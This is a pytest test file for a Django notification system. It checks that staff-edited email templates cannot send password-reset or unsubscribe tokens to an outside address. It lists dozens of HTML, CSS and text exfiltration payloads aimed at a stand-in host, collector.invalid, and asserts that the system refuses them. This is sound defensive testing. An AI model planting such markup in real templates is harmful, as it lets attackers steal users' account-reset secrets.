"""A code or link stands in what staff wrote as text of its own or as a whole link to us, and nowhere else."""

import html
from functools import cache

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from lib.actors import Actor
from notifications import registry
from notifications.admin.templates import LocalizedTemplate
from notifications.models import Message, TemplateOverride
from notifications.rendering import engines, render
from notifications.services import delivery, overrides
from notifications.tests.factories import MessageFactory

COMMAND = Actor.command("tests")

pytestmark = pytest.mark.django_db
RESET = "users.forgot_password"
TO = "https://collector.invalid"
LINK = '<p><a href="{{ reset_url }}">Choose</a></p><p>{{ reset_url }}</p>'
SECRET = "reset_token="

HTML = {
    "image": f'<img src="{TO}/p.gif?{{{{ reset_url|urlencode }}}}">',
    "image unfiltered": f'<img src="{TO}/p.gif?{{{{ reset_url }}}}">',
    "image without a secret": f'<img src="{TO}/p.gif">',
    "image without a scheme": '<img src="//collector.invalid/p.gif">',
    "srcset": f'<img srcset="{TO}/?{{{{ reset_url }}}} 2x">',
    "dangling quote": f"<img src='{TO}/?{{{{ reset_url }}}}'>",
    "dangling tag": f"<p>{{{{ reset_url }}}}</p><img src='{TO}/? <p>{{{{ reset_url }}}}</p>'>",
    "style": f'<p style="background: url({TO}/?{{{{ reset_url }}}})">x</p>',
    "style without a secret": f'<p style="background: url({TO})">x</p>',
    "style in pieces": f'<p style="background: u/**/rl({TO})">x</p>',
    "style escaped": f'<p style="background: \\75 rl({TO})">x</p>',
    "sheet": f"<style>p {{background: url({TO}/?{{{{ reset_url }}}})}}</style>",
    "import": f"<style>@import '{TO}/x.css';</style>",
    "link": f'<link rel="stylesheet" href="{TO}/x.css">',
    "background": f'<table background="{TO}/?{{{{ reset_url }}}}"><tr><td>x</td></tr></table>',
    "form": '<form action="{{ reset_url }}"><input type="submit"></form>',
    "form elsewhere": f'<form action="{TO}"><input name="t" value="{{{{ reset_url }}}}"></form>',
    "button": f'<button formaction="{TO}">x</button>',
    "longer link": f'<a href="{TO}/?{{{{ reset_url }}}}">x</a>',
    "longer link, filtered": f'<a href="{TO}/?{{{{ reset_url|urlencode }}}}">x</a>',
    "link with a blank": '<a href=" {{ reset_url }}">x</a>',
    "link of another tag": '<area href="{{ reset_url }}">',
    "ping": f'<a href="{{{{ reset_url }}}}" ping="{TO}">x</a>',
    "other attribute": '<a href="https://example.org" title="{{ reset_url }}">x</a>',
    "attribute name": "<p {{ reset_url }}=x>x</p>",
    "tag name": "<p{{ reset_url }}>x</p>",
    "comment": "<!-- {{ reset_url }} -->",
    "conditional comment": f'<!--[if mso]><v:image src="{TO}/x"/><![endif]-->',
    "script": '<script>"{{ reset_url }}"</script>',
    "title": "<title>{{ reset_url }}</title>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={TO}/?{{{{ reset_url }}}}">',
    "base": f'<base href="{TO}">',
    "iframe": f'<iframe src="{TO}"></iframe>',
    "object": f'<object data="{TO}"></object>',
    "video": f'<video poster="{TO}"></video>',
    "svg": f'<svg><image href="{TO}"/></svg>',
    "template": f'<template><img src="{TO}"></template>',
    "joined": f"<p>{TO}/?x={{{{ reset_url }}}}</p>",
    "joined over tags": f"<p>{TO}/?x=<b>{{{{ reset_url }}}}</b></p>",
    "joined over an image": f"<p>{TO}/?x=<img alt='' hidden>{{{{ reset_url }}}}</p>",
    "joined behind, over an image": "<p>{{ reset_url }}<img hidden>.collector.invalid</p>",
    "joined by a blank that is none": f"<p>{TO}/?x=&#8203;{{{{ reset_url }}}}</p>",
    "in angle brackets": f"<p>&lt;{TO}/?x= {{{{ reset_url }}}} &gt;</p>",
    "filtered": "<p>{{ reset_url|urlencode }}</p>",
    "with": f'{{% with a=reset_url|urlencode %}}<img src="{TO}/?{{{{ a }}}}">{{% endwith %}}',
    "asvar": f"{{% blocktranslate asvar a %}}{TO}/?{{{{ reset_url }}}}{{% endblocktranslate %}}"
    "<a href='{{ a }}'>x</a>",
    "included": '{% include "emails/_parts/p.html" with text=reset_url|lower only %}',
    "block": f"{{% block preheader %}}{TO}/?{{{{ reset_url }}}}{{% endblock %}}",
}
TEXT = {
    "joined": f"{TO}/?x={{{{ reset_url }}}}",
    "joined behind": "{{ reset_url }}.collector.invalid",
    "filtered": f"{TO}/?x={{{{ reset_url|urlencode }}}}",
    "over lines": f"<{TO}/?x=\n{{{{ reset_url }}}}\n>",
    "by no blank": f"{TO}/?x=\u200b{{{{ reset_url }}}}",
    "by a blank that does not break": f"{TO}/?x=\xa0{{{{ reset_url }}}}",
    "asvar": f"{{% blocktranslate asvar a %}}{TO}/{{{{ reset_url }}}}{{% endblocktranslate %}}{{{{ a }}}}",
}
CASES = [("html", name, LINK + body) for name, body in HTML.items()]
CASES += [("text", name, "{{ reset_url }}\n" + body) for name, body in TEXT.items()]
CASES += [("subject", "with", "{% with a=reset_url %}{{ a }}{% endwith %}")]


def stored(part, body, code=RESET):
    """As an older release, or whoever can write rows, left it."""
    return TemplateOverride.objects.create(type=code, language="en", part=part, body=body, version=1, active=True)


@cache
def form_of_files():
    """What the form of the mail holds while every part is the file's."""
    template = LocalizedTemplate(registry.get(RESET), "en", {})
    return {part: template.body(part) for part in overrides.PARTS} | {"seen": template.seen}


def test_the_list_names_what_is_not_sent(staff_client):
    stored("html", LINK + HTML["image"])

    assert ": broken" in staff_client.get("/admin/notifications/templateoverride/").content.decode()


@pytest.mark.parametrize(("part", "name", "body"), CASES, ids=[f"{part}: {name}" for part, name, _ in CASES])
def test_no_address_but_ours_gets_a_secret(superuser, user, api, mailoutbox, part, name, body):
    """Neither by what the form of the admin calls nor by a row that is there already."""
    kind, bodies, actor = registry.get(RESET), {**form_of_files(), part: body}, Actor("admin", superuser)

    with pytest.raises(overrides.InvalidTemplate) as refusal:
        overrides.save(kind, language="en", bodies=bodies, actor=actor)

    assert refusal.value.problems[part]
    assert not TemplateOverride.objects.exists()

    stored(part, body)
    api.call("POST", "/auth/forgot-password", {"email": user.email})
    delivery.QueueWorker().deliver_due()
    mail = mailoutbox[0]
    whole = "\n".join([mail.subject, mail.body, mail.alternatives[0].content])
    assert SECRET in mail.body
    assert TO not in html.unescape(whole).replace("%3A", ":")
    assert Message.objects.get(type=RESET).template_source.startswith("file:")
    assert [row.part for row, _ in overrides.broken()] == [part]


@pytest.mark.parametrize("part", ["subject", "text", "html"])
def test_the_form_shows_at_its_part_what_is_refused(staff_client, part):
    body = next(body for of, _, body in CASES if of == part)
    page = f"/admin/notifications/templateoverride/of/{RESET}/en/"

    answer = staff_client.post(page, {**form_of_files(), part: body, "note": "Nicer"})

    assert answer.status_code == 200
    assert answer.context["form"].errors[part]
    assert not TemplateOverride.objects.exists()


@pytest.mark.parametrize(
    ("part", "body"),
    [
        ("html", LINK),
        ("html", '<a href="{{ reset_url }}"><b>Choose</b></a>'),
        ("html", "<table><tr><td>Here:</td><td>{{ reset_url }}</td></tr></table>"),
        ("html", f'<a href="{TO}">Us</a> <p style="color: red">({{{{ reset_url }}}}).</p>'),
        ("html", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""> {{ reset_url }}'),
        ("html", '{% include "emails/_parts/button.html" with url=reset_url label="Go" only %}'),
        ("html", "{% with a=reset_url %}<p>{{ a }}</p>{% endwith %}"),
        ("text", f"See {TO} or\n\n{{{{ reset_url }}}}"),
        ("text", "Open {{ reset_url }}, soon."),
    ],
)
def test_a_secret_stands_as_text_or_as_a_whole_link(part, body):
    kind = registry.get(RESET)
    bodies = {part: body} | ({"text": f"{TO} {{{{ reset_url }}}}"} if TO in body else {})

    assert part in overrides.save(kind, language="en", bodies=bodies, actor=COMMAND)

    mail = render.render(kind, engines.sample(kind), language="en")
    assert mail.source.startswith("override:")
    assert f"{settings.APP_URL}/forgot-password/reset?{SECRET}" in getattr(mail, part)


@pytest.mark.parametrize("tag", ["textarea", "option", "script"])
def test_a_form_takes_no_link_of_an_unsubscription(tag):
    body = f'<form action="{TO}"><{tag} name="t">\n{{{{ unsubscribe_url }}}}\n</{tag}></form>'

    with pytest.raises(overrides.InvalidTemplate, match=f"must not stand in {tag}"):
        overrides.save(registry.get("notifications.announcement"), language="en", bodies={"html": body}, actor=COMMAND)


def test_what_is_shown_to_some_alone_is_refused_when_it_is_theirs(mailoutbox):
    """Saved with a harmless sample: the rule holds for each mail as it is made."""
    evil = f'{{% if first_name == "Eve" %}}<img src="{TO}/?{{{{ code }}}}">{{% endif %}}<p>{{{{ code }}}}</p>'
    overrides.save(registry.get("tests.hello"), language="en", bodies={"html": evil}, actor=COMMAND)
    for name in ("Ada", "Eve"):
        MessageFactory.create(context={"first_name": name, "number": 1})

    delivery.QueueWorker().deliver_due()

    ours, theirs = sorted((mail.alternatives[0].content for mail in mailoutbox), key=len)
    assert "<p>481516</p>" in ours
    assert TO not in theirs
    assert "481516" in theirs


def test_a_link_elsewhere_is_no_link_of_ours(settings):
    kind = registry.get(RESET)
    stored("html", LINK)

    mail = render.render(kind, {**engines.sample(kind), "reset_url": f"{TO}/x"}, language="en")

    assert mail.source.startswith("file:")


def test_the_link_that_ends_news_is_guarded_too_and_news_may_show_pictures():
    kind = registry.get("notifications.announcement")
    picture = f'<img src="{TO}/logo.png"><p>{{{{ title }}}}</p><a href="{{{{ unsubscribe_url }}}}">Stop</a>'
    text = "{{ title }} {{ unsubscribe_url }}"
    overrides.save(kind, language="en", bodies={"html": picture, "text": text}, actor=COMMAND)

    with pytest.raises(overrides.InvalidTemplate, match="whole"):
        overrides.save(
            kind, language="en", bodies={"html": f'<img src="{TO}/?{{{{ unsubscribe_url }}}}">'}, actor=COMMAND
        )

    assert f"{TO}/logo.png" in render.render(kind, engines.sample(kind), language="en").html


def test_staff_and_operators_are_told_what_is_not_sent(staff_client, capsys):
    row = stored("html", f'<img src="{TO}/?{{{{ reset_url }}}}">')

    first = staff_client.get("/admin/").content.decode()
    with pytest.raises(CommandError):
        call_command("notifications_check")

    assert f"Not sent as staff wrote it, but as the file has it: {row}." in first
    assert f"! Template: {row} of staff is not sent" in capsys.readouterr().out
